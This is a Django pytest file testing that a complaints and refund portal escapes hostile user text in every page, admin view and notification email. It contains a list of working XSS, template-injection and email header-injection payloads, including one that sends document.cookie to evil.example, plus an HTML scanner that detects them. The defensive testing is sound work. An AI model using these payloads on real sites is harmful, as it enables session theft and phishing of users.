"""Output safety: hostile text through every text field, checked in every page and
notice that shows it.

Each payload carries a marker. A page is unsafe if, once parsed, the marker sits in
an event-handler attribute, in a URL-bearing attribute (href, src, action, ...), in
an attribute name, or inside a <script> or <style> element: that is markup built
from user text. Escaped text (the marker in ordinary text or a value="" attribute)
is safe.
"""

from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts.models import User
from complaints import tracking, workflow
from complaints.models import CannedReply, Ticket
from complaints.services import (
    ComplaintInput,
    EvidenceInput,
    RefundInput,
    message_add,
    ticket_create,
    ticket_rate,
)
from tests.factories import AgentFactory, CustomerFactory, TransactionFactory

pytestmark = pytest.mark.django_db

# {m} is replaced by a marker unique to the payload.
PAYLOADS = [
    "<script>alert('{m}')</script>",
    '"><img src=x onerror=alert("{m}")>',
    "'><svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "javascript:alert('{m}')",
    "<a href=\"javascript:alert('{m}')\">click</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<body onload=alert('{m}')>",
    "{{{{ 7*7 }}}} {{% debug %}} {m}",
    "${{7*7}} #{{7*7}} <%= 7*7 %> {m}",
    '<img src="x" onerror="fetch(\'//evil.example/{m}?\'+document.cookie)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "<style>@import 'https://evil.example/{m}.css';</style>",
    "<object data=\"data:text/html,<script>alert('{m}')</script>\"></object>",
    '<base href="https://evil.example/{m}/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{m}">',
    "[click me](javascript:alert('{m}'))",
    '<form action="https://evil.example/{m}"><button>Verify</button></form>',
    '" onmouseover="alert(\'{m}\')" x="',
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "Hello\r\nBcc: victim@example.com\r\n\r\n<b>{m}</b>",
    "<a href=\"&#106;avascript:alert('{m}')\">encoded</a>",
]
URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "data",
        "srcdoc",
        "content",
        "style",
        "xlink:href",
        "background",
        "poster",
    }
)


class _Scanner(HTMLParser):
    def __init__(self, marker: str) -> None:
        super().__init__(convert_charrefs=True)
        self.marker = marker
        self.problems: list[str] = []
        self._raw: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            text = value or ""
            if self.marker in name:
                self.problems.append(f"<{tag}> attribute name {name!r}")
            elif self.marker in text and (
                name.startswith("on") or name in URL_ATTRIBUTES
            ):
                self.problems.append(f"<{tag} {name}={text!r}>")
        if tag in {"script", "style"}:
            self._raw.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._raw and self._raw[-1] == tag:
            self._raw.pop()

    def handle_data(self, text: str) -> None:
        if self._raw and self.marker in text:
            self.problems.append(f"marker inside <{self._raw[-1]}>")


def _problems(html: str, marker: str) -> list[str]:
    scanner = _Scanner(marker)
    scanner.feed(html)
    scanner.close()
    return scanner.problems


def _resolve(ticket: Ticket, agent: User, summary: str) -> None:
    workflow.ticket_transition(ticket=ticket, to_status="investigating", actor=agent)
    workflow.ticket_transition(
        ticket=ticket,
        to_status="resolved",
        actor=agent,
        resolution=workflow.Resolution(
            outcome="partially_upheld",
            summary=summary,
            amount=Decimal("12.00"),
            currency="CNY",
        ),
    )


def _file_everything(text: str) -> dict[str, object]:
    """Put text in every customer and staff text field; return what to render."""
    customer = CustomerFactory(first_name=text[:150])
    agent = AgentFactory(first_name=text[:150])
    complaint = ticket_create(
        customer=customer,
        kind="complaint",
        category="account_access",
        subject=text[:200],
        description=text,
        details=ComplaintInput(remedy_sought=text),
    )
    record = TransactionFactory(owner=customer, counterparty_name=text[:128])
    refund = ticket_create(
        customer=customer,
        kind="misoperation_refund",
        category="wrong_recipient",
        subject=text[:200],
        description=text,
        details=RefundInput(
            transaction_id=record.pk,
            amount_requested=record.amount,
            intended_recipient=text[:128],
            actual_recipient=text[:128],
        ),
    )
    message_add(
        ticket=complaint,
        author=customer,
        body=text,
        evidence=[
            EvidenceInput(
                file=SimpleUploadedFile(
                    (text.replace("/", "_")[:80] + ".txt"), b"chat log\n"
                )
            )
        ],
    )
    workflow.ticket_transition(ticket=complaint, to_status="acknowledged", actor=None)
    workflow.ticket_transition(
        ticket=complaint, to_status="investigating", actor=agent, note=text
    )
    message_add(ticket=complaint, author=agent, body=text)
    message_add(ticket=complaint, author=agent, body=text, is_internal=True)
    CannedReply.objects.create(title=text[:120], body=text, language="en")
    workflow.ticket_transition(
        ticket=complaint,
        to_status="resolved",
        actor=agent,
        resolution=workflow.Resolution(outcome="upheld", summary=text),
    )
    ticket_rate(ticket=complaint, customer=customer, rating=2, comment=text)
    workflow.ticket_transition(ticket=refund, to_status="acknowledged", actor=None)
    _resolve(refund, agent, text)
    workflow.ticket_transition(
        ticket=refund, to_status="investigating", actor=customer, note=text
    )  # the customer's reopen reason
    return {"customer": customer, "agent": agent, "tickets": [complaint, refund]}


def _pages(filed: dict[str, object]) -> dict[str, str]:
    tickets: list[Ticket] = filed["tickets"]
    portal = Client()
    portal.force_login(filed["customer"])
    staff = Client()
    staff.force_login(filed["agent"])
    pages = {}
    for ticket in tickets:
        pages[f"portal {ticket.kind}"] = portal.get(ticket.get_absolute_url())
        token = tracking.tracking_token_make(ticket=ticket)
        pages[f"tracking {ticket.kind}"] = Client().get(
            reverse("complaints:track_ticket", args=[token])
        )
        pages[f"admin case {ticket.kind}"] = staff.get(
            reverse("admin:complaints_ticket_change", args=[ticket.pk])
        )
    pages["portal list"] = portal.get(reverse("complaints:ticket_list"))
    pages["portal notices"] = portal.get(reverse("complaints:notice_list"))
    pages["portal home"] = portal.get(reverse("complaints:home"))
    pages["admin list"] = staff.get(reverse("admin:complaints_ticket_changelist"))
    pages["admin search"] = staff.get(
        reverse("admin:complaints_ticket_changelist"), {"q": tickets[0].reference}
    )
    pages["admin canned replies"] = staff.get(
        reverse("admin:complaints_cannedreply_changelist")
    )
    for name, response in pages.items():
        assert response.status_code == 200, name
    return {name: response.content.decode() for name, response in pages.items()}


@pytest.mark.parametrize(
    "template", PAYLOADS, ids=[f"payload{n:02d}" for n in range(len(PAYLOADS))]
)
def test_hostile_text_is_inert_in_every_page_and_notice(
    template: str, django_capture_on_commit_callbacks
):
    marker = f"wdxss{PAYLOADS.index(template):02d}"
    text = template.replace("{m}", marker)
    with django_capture_on_commit_callbacks(execute=True):
        filed = _file_everything(text)

    pages = _pages(filed)
    for name, html in pages.items():
        assert _problems(html, marker) == [], name
    assert marker in pages["portal complaint"]  # the text is shown, escaped

    assert len(mail.outbox) >= 6
    assert any(marker in body for m in mail.outbox for body, _ in m.alternatives)
    for message in mail.outbox:
        assert "\n" not in message.subject
        assert "\r" not in message.subject
        assert message.extra_headers.get("Bcc") is None
        assert not message.bcc
        for body, mimetype in message.alternatives:
            assert mimetype == "text/html"
            assert _problems(body, marker) == [], message.subject


def test_template_syntax_in_user_text_is_not_evaluated(
    django_capture_on_commit_callbacks,
):
    text = "{{ 7*7 }} {% now 'Y' %} {{ request.user.password }}"
    with django_capture_on_commit_callbacks(execute=True):
        filed = _file_everything(text)
    page = _pages(filed)["portal complaint"]
    assert "{{ 7*7 }}" in page
    assert "{% now &#x27;Y&#x27; %}" in page or "{% now 'Y' %}" in page


def test_scanner_catches_markup_built_from_user_text():
    unsafe = [
        "<img src=x onerror=\"alert('m1')\">",
        "<script>alert('m1')</script>",
        "<a href=\"javascript:alert('m1')\">x</a>",
        '<div" onmouseover="alert(\'m1\')" x="">',
        "<style>@import 'https://evil.example/m1.css';</style>",
    ]
    for html in unsafe:
        assert _problems(html, "m1"), html
    assert _problems('<p>&lt;script&gt;m1</p><input value="m1">', "m1") == []


def test_payload_count_is_at_least_twenty():
    assert len(PAYLOADS) >= 20
